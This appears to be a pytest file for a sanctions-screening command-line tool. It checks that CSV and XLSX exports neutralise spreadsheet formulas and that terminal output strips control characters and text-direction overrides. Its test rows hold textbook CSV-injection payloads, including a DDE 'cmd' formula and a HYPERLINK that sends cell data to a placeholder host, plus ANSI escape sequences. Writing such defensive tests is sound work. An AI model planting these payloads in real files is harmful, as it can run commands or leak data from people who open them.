"""What the CLI writes for people is safe to open and to print (issue 13, "never a wrong clear"):
screening results in CSV and XLSX hold no formula a spreadsheet would run, and terminal output
holds no control character from the data, while `--json` keeps every value exactly."""

from __future__ import annotations

import csv
import json
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from graph.cli import app
from graph.safe_text import FORMULA_LEADS
from graph.store import Store
from pipeline.ingest import load_file
from tests.conftest import FIXTURES

CONTROLS = FIXTURES / "terminal_control_names.yaml"
SHIP = "evidence_terminal_control_names:entity:ship"
HOLDER = "evidence_terminal_control_names:entity:holder"

#: A screening file as a hostile or unlucky user could send it (written by the test; the
#: formulas are the textbook CSV-injection examples, the names two ships of the shared data).
HOSTILE_ROWS: list[dict[str, str]] = [
    {"ref": "r1", "name": '=HYPERLINK("http://example.invalid/?x="&A1,"MARIA")',
     "desk": "=cmd|' /C calc'!A0", "amount": "-5", "@note": "+1+1"},
    {"ref": "r2", "name": "MARIA", "desk": "\t=1+1", "amount": "\r=2+2", "@note": "@SUM(A1:A9)"},
    {"ref": "r3", "name": "-MARIA", "desk": "+44 20 7946 0000", "amount": "12",
     "@note": "-2+3+cmd|' /C calc'!A0"},
    {"ref": "r4", "name": "@ANGARA", "desk": "ops\x1b[2J", "amount": "", "@note": "plain"},
]


def _control_chars(text: str) -> list[str]:
    """Characters of `text` a terminal acts on rather than shows (line ends aside)."""
    return [c for c in text if c != "\n" and (unicodedata.category(c) == "Cc" or
            "\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069")]


def _expected(value: str) -> str:
    value = value.replace("\x1b", "")  # an XLSX cell cannot hold ESC; the CSV says the same
    return "'" + value if value.startswith(FORMULA_LEADS) else value


def _screen(ship_store: Store, tmp_path: Path, suffix: str) -> Path:
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(HOSTILE_ROWS[0]))
        writer.writeheader()
        writer.writerows(HOSTILE_ROWS)
    out = tmp_path / f"screened{suffix}"
    result = CliRunner().invoke(app, ["screen", str(source), "-o", str(out),
                                      "--db", str(ship_store.path)])
    assert result.exit_code == 0, result.output
    return out


def _by_ref(header: list[str], rows: list[list[Any]]) -> dict[str, dict[str, Any]]:
    """The first output line of each input row, by its reference."""
    out: dict[str, dict[str, Any]] = {}
    for row in rows:
        line = dict(zip(header, row, strict=True))
        out.setdefault(line["ref"], line)
    return out


def test_screening_csv_cells_never_start_a_formula(ship_store: Store, tmp_path: Path) -> None:
    out = _screen(ship_store, tmp_path, ".csv")
    text = out.read_text(encoding="utf-8")
    with out.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert "'@note" in header  # a column name is a cell too
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS), cell
    lines = _by_ref([h.removeprefix("'") for h in header], rows)
    for given in HOSTILE_ROWS:
        for column, value in given.items():
            assert lines[given["ref"]][column] == _expected(value), (column, value)
    # Every field is quoted: a spreadsheet that splits on ';' still sees one field.
    assert text.startswith('"ref","name",')
    # The rows still screen (the quote is in the output only): MARIA finds the MARIAs.
    assert lines["r2"]["decision"] in ("match", "review")


def test_screening_xlsx_cells_are_text_never_formulas(ship_store: Store, tmp_path: Path) -> None:
    out = _screen(ship_store, tmp_path, ".xlsx")
    sheet = load_workbook(out).worksheets[0]
    rows = list(sheet.iter_rows())
    assert rows
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if cell.data_type == "s" and cell.value is not None:
                assert not str(cell.value).startswith(FORMULA_LEADS), cell.value
    header = [str(c.value).removeprefix("'") for c in rows[0]]
    values = [["" if c.value is None else c.value for c in row] for row in rows[1:]]
    lines = _by_ref(header, values)
    for given in HOSTILE_ROWS:
        for column, value in given.items():
            assert lines[given["ref"]][column] == _expected(value), (column, value)
    # Passed-through numbers are text like every input value; the computed score is a number.
    scores = [row[header.index("score")] for row in rows[1:] if row[header.index("rank")].value]
    assert scores and all(c.data_type == "n" for c in scores)


def test_json_lines_lists_pass_through_to_xlsx_as_json_text(ship_store: Store,
                                                            tmp_path: Path) -> None:
    # Written here: JSON-lines rows whose extra columns hold a list and an object.
    source = tmp_path / "rows.jsonl"
    rows = [{"name": "MARIA", "tags": ["=1+1", "ops"], "meta": {"desk": "@ops"}}]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "screened.xlsx"
    result = CliRunner().invoke(app, ["screen", str(source), "-o", str(out),
                                      "--db", str(ship_store.path)])
    assert result.exit_code == 0, result.output
    header, first, *_ = list(load_workbook(out).worksheets[0].iter_rows(values_only=True))
    line = dict(zip(header, first, strict=True))
    assert line["tags"] == '["=1+1", "ops"]' and line["meta"] == '{"desk": "@ops"}'


@pytest.fixture
def control_store(tmp_path: Path) -> Iterator[Path]:
    """A store of the hand-made fixture whose names hold control sequences."""
    path = tmp_path / "controls.db"
    with Store(path) as store:
        load_file(store, CONTROLS)
    yield path


@pytest.mark.parametrize("args", [["owner", "NOWHERE STAR"], ["path", SHIP, HOLDER],
                                  ["exposure", SHIP]])
def test_terminal_output_holds_no_control_characters(control_store: Path,
                                                     args: list[str]) -> None:
    result = CliRunner().invoke(app, [*args, "--db", str(control_store)])
    assert result.exit_code == 0, result.output
    assert _control_chars(result.stdout) == []
    assert "NOWHERE[2J[H STAR" in result.stdout  # the rest of the name is shown


def test_owner_output_shows_every_value_on_one_line(control_store: Path) -> None:
    result = CliRunner().invoke(app, ["owner", "NOWHERE STAR", "--db", str(control_store)])
    assert _control_chars(result.stdout) == []
    assert "NOWHERE RATS" in result.stdout  # the override is gone, the name reads as written
    assert "sanctions-graph31m tests" in result.stdout  # an 8-bit CSI is a control too


def _strings(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield key
            yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


def test_json_output_keeps_every_value_exactly_and_nothing_raw(control_store: Path) -> None:
    result = CliRunner().invoke(app, ["owner", "NOWHERE STAR", "--json", "--db",
                                      str(control_store)])
    assert result.exit_code == 0, result.output
    assert _control_chars(result.stdout) == []
    strings = set(_strings(json.loads(result.stdout)))
    assert "NOWHERE\x1b[2J\x1b[H STAR" in strings
    assert "NOWHERE \u202eRATS" in strings
    assert any("sanctions-graph\x9b31m tests" in s for s in strings)


def test_an_error_quoting_the_file_prints_no_control_characters(ship_store: Store,
                                                                tmp_path: Path) -> None:
    # Written here: a screening file without a name column, a column name holding ESC.
    bad = tmp_path / "no_names.csv"
    bad.write_text("ref,x\x1b[2Jy\nr1,a\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["screen", str(bad), "--db", str(ship_store.path)])
    assert result.exit_code == 2, result.output
    assert "no name column; found ref, x[2Jy" in result.stderr
    assert _control_chars(result.stderr) == []
